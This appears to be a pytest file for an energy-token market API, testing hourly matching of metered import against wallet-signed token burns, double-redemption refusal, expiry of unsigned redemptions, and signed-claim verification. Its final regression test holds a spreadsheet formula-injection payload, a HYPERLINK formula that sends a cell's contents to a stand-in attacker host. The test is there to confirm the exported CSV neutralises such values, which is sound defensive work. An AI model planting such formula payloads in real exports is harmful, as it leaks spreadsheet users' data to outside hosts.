"""Hourly consumption matching through the API on real PostgreSQL and the embedded ledger: a household's metered
import (accounting windows) is partly matched by burning energy tokens from its wallet (burn + memo, wallet-signed);
the statement's numbers equal the burns on chain and the metered import per hour; redeeming the same Wh twice is
refused (the service's check and the database's constraint); the signed claim validates through the public
endpoint and a tampered one does not."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

import asyncpg
import pytest
from solders.signature import Signature

from central.app import POOL
from central.http.context import SERVICES
from central.http.roles import Role
from central.ledger.builder import associated_token_address
from central.ledger.cosign import sign_request
from central.ledger.tokens import MEMO_PROGRAM_ID, TOKEN_PROGRAM_ID
from central.market.matching import HourRow, parse_memo, statement, to_csv
from tests.central.market.http_env import Env, auth, funded_user
from tests.central.pg import add_device, add_meter

pytestmark = pytest.mark.filterwarnings("ignore::aiohttp.web_exceptions.NotAppKeyWarning")

H1 = datetime(2026, 3, 10, 7, tzinfo=UTC)
QUARTERS = {H1: [200, 300, 250, 250], H1 + timedelta(hours=1): [200] * 4, H1 + timedelta(hours=2): [100, 150, 0, 250]}


async def add_windows(pool: asyncpg.Pool, owner: uuid.UUID, serial: str) -> None:
    device = f"gw-{uuid.uuid4().hex[:12]}"
    await add_device(pool, device, uuid.uuid4().bytes * 2)
    meter = await add_meter(pool, device, serial, owner, source="grid")
    rows = []
    for hour, quarters in QUARTERS.items():
        for q, wh in enumerate(quarters):
            ms = int((hour + timedelta(minutes=15 * q)).timestamp() * 1000)
            rows.append((meter, ms, ms + 900_000, owner, wh, bytes([q]) * 32))
    await pool.executemany(
        "INSERT INTO energy_windows (meter_id, window_start_ms, window_end_ms, owner_id, import_wh, export_wh, "
        "start_import, start_export, end_import, end_export, record_hashes, merkle_root) "
        "VALUES ($1, $2, $3, $4, $5, 0, 0, 0, 0, 0, '{}', $6)",
        rows,
    )


async def test_hourly_matching_statement_equals_burns_and_import(env: Env) -> None:
    client, setup, ledger = env
    pool = client.app[POOL]
    uid, wallet = await funded_user(client, setup, ledger, "consumer", energy=5000)
    other, _ = await funded_user(client, setup, ledger, "consumer", energy=10)
    h, ho = auth(client, uid, Role.CONSUMER), auth(client, other, Role.CONSUMER)
    serial = f"m-{uid.hex[:10]}"
    await add_windows(pool, uid, serial)
    ata = associated_token_address(wallet.pubkey(), setup.energy_mint)

    async def redeem(hour: datetime, amount: int, headers: dict[str, str] = h) -> tuple[int, dict[str, object]]:
        r = await client.post("/api/v1/market/redemptions", headers=headers,
                              json={"meter": serial, "hour": hour.isoformat(), "amount": amount})
        if r.status != 201:
            return r.status, await r.json()
        built = await r.json()
        signed = sign_request(built["transaction"], wallet)
        s = await client.post(f"/api/v1/market/redemptions/{built['id']}/submit", json={"transaction": signed},
                              headers=headers)
        assert s.status == 200, await s.text()
        return s.status, {**await s.json(), "signed": signed}

    status, first = await redeem(H1, 600)  # part of 07:00's 1000 Wh
    assert first["status"] == "confirmed", first
    status, second = await redeem(H1 + timedelta(hours=1), 800)  # all of 08:00
    assert second["status"] == "confirmed", second
    assert (await ledger.get_token_account_balance(ata)).amount == 5000 - 1400  # type: ignore[union-attr]

    # Double redemption: more than what is left of the hour is refused, a replayed submission too.
    status, body = await redeem(H1, 401)
    assert status == 409, body
    assert "400 Wh" in str(body)
    status, body = await redeem(H1 + timedelta(hours=1), 1)
    assert status == 409
    r = await client.post(f"/api/v1/market/redemptions/{first['id']}/submit",
                          json={"transaction": first["signed"]}, headers=h)
    assert r.status == 409
    with pytest.raises(asyncpg.CheckViolationError):  # the database refuses it even if the check were skipped
        await pool.execute("UPDATE matching_hours SET redeemed_wh = redeemed_wh + 401 WHERE hour = $1", H1)
    # Not your meter, not a whole hour, an hour without import.
    assert (await redeem(H1, 1, ho))[0] == 404
    assert (await redeem(H1 + timedelta(minutes=30), 1))[0] == 400
    assert (await redeem(H1 + timedelta(hours=5), 1))[0] == 404
    assert (await ledger.get_token_account_balance(ata)).amount == 3600  # type: ignore[union-attr]

    r = await client.get("/api/v1/market/matching/statement?month=2026-03", headers=h)
    assert r.status == 200
    st = await r.json()
    burned: dict[str, int] = {}
    for row in st["hours"]:
        hour = datetime.fromisoformat(row["hour"])
        assert row["meter"] == serial
        assert row["import_wh"] == sum(QUARTERS[hour])  # the metered import of the hour (accounting windows)
        total = 0
        for sig in row["signatures"]:  # each burn, read back from the chain
            rec = await ledger.get_transaction(Signature.from_string(sig))
            assert rec is not None
            assert rec.err is None
            msg = rec.transaction.message
            keys = msg.account_keys
            memos = [parse_memo(bytes(ix.data).decode()) for ix in msg.instructions
                     if keys[ix.program_id_index] == MEMO_PROGRAM_ID]
            burns = [int.from_bytes(bytes(ix.data)[1:9], "little") for ix in msg.instructions
                     if keys[ix.program_id_index] == TOKEN_PROGRAM_ID and bytes(ix.data)[0] == 15]
            assert len(memos) == 1
            assert len(burns) == 1
            memo = memos[0]
            assert memo is not None
            assert (memo["meter"], datetime.fromisoformat(memo["hour"]), int(memo["wh"])) == (serial, hour, burns[0])
            total += burns[0]
        assert row["matched_wh"] == total
        assert row["share_bp"] == total * 10_000 // row["import_wh"]
        burned[row["hour"]] = total
    assert burned == {H1.isoformat(): 600, (H1 + timedelta(hours=1)).isoformat(): 800,
                      (H1 + timedelta(hours=2)).isoformat(): 0}
    assert (st["import_wh"], st["matched_wh"], st["share_bp"]) == (2300, 1400, 1400 * 10_000 // 2300)

    r = await client.get("/api/v1/market/matching/statement.csv?month=2026-03", headers=h)
    assert r.content_type == "text/csv"
    rows = list(csv.DictReader(io.StringIO(await r.text())))
    assert [(x["hour"], int(x["import_wh"]), int(x["matched_wh"])) for x in rows] == [
        *((x["hour"], x["import_wh"], x["matched_wh"]) for x in st["hours"]), ("2026-03", 2300, 1400)
    ]

    r = await client.get("/api/v1/market/matching/claim?month=2026-03", headers=h)
    claim = await r.json()
    assert claim["claim"]["statement"]["matched_wh"] == 1400
    key = await (await client.get("/api/v1/market/matching/key")).json()
    assert key["public_key"] == claim["public_key"]
    v = await client.post("/api/v1/market/matching/verify", json={"claim": claim["claim"],
                                                                  "signature": claim["signature"]})
    assert await v.json() == {"valid": True}
    claim["claim"]["statement"]["hours"][0]["matched_wh"] += 1
    claim["claim"]["statement"]["matched_wh"] += 1
    v = await client.post("/api/v1/market/matching/verify", json={"claim": claim["claim"],
                                                                  "signature": claim["signature"]})
    assert await v.json() == {"valid": False}
    empty = await (await client.get("/api/v1/market/matching/statement?month=2026-03", headers=ho)).json()
    assert (empty["import_wh"], empty["hours"]) == (0, [])


async def test_an_unsigned_redemption_expires_and_gives_its_wh_back(env: Env) -> None:
    client, setup, ledger = env
    pool = client.app[POOL]
    uid, _ = await funded_user(client, setup, ledger, "consumer", energy=5000)
    h = auth(client, uid, Role.CONSUMER)
    serial = f"m-{uid.hex[:10]}"
    await add_windows(pool, uid, serial)
    body = {"meter": serial, "hour": H1.isoformat(), "amount": 1000}
    r = await client.post("/api/v1/market/redemptions", json=body, headers=h)
    assert r.status == 201
    built = await r.json()
    r = await client.post("/api/v1/market/redemptions", json=body, headers=h)
    assert r.status == 409  # all of the hour is reserved by the first, not yet signed
    matching = client.app[SERVICES].market.market.matching
    async with asyncio.timeout(30):  # never signed: once its blockhash is past, it expires (the escrow job does this)
        while (await matching.store.get(uid, uuid.UUID(built["id"]))).status == "built":
            await asyncio.sleep(0.2)
            await matching.resolve_open()
    assert (await matching.store.get(uid, uuid.UUID(built["id"]))).status == "expired"
    r = await client.post("/api/v1/market/redemptions", json=body, headers=h)
    assert r.status == 201  # the hour's Wh are free again


def test_statement_csv_does_not_let_a_meter_serial_run_as_a_spreadsheet_formula() -> None:
    """Meter serials are any printable ASCII, chosen by whoever registers the meter: one like ``=HYPERLINK(...)``
    was written as is and ran as a formula when the household opened its statement in a spreadsheet."""
    hour = datetime(2026, 3, 1, 10, tzinfo=UTC)
    serials = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "EM-000123"]
    rows = [HourRow(serial, hour, 1000, 500, 5000, []) for serial in serials]
    parsed = list(csv.reader(io.StringIO(to_csv(statement(uuid.uuid4(), "2026-03", rows)))))
    cells = [row[0] for row in parsed[1:-1]]
    assert cells == ["'" + s for s in serials[:4]] + ["EM-000123"]
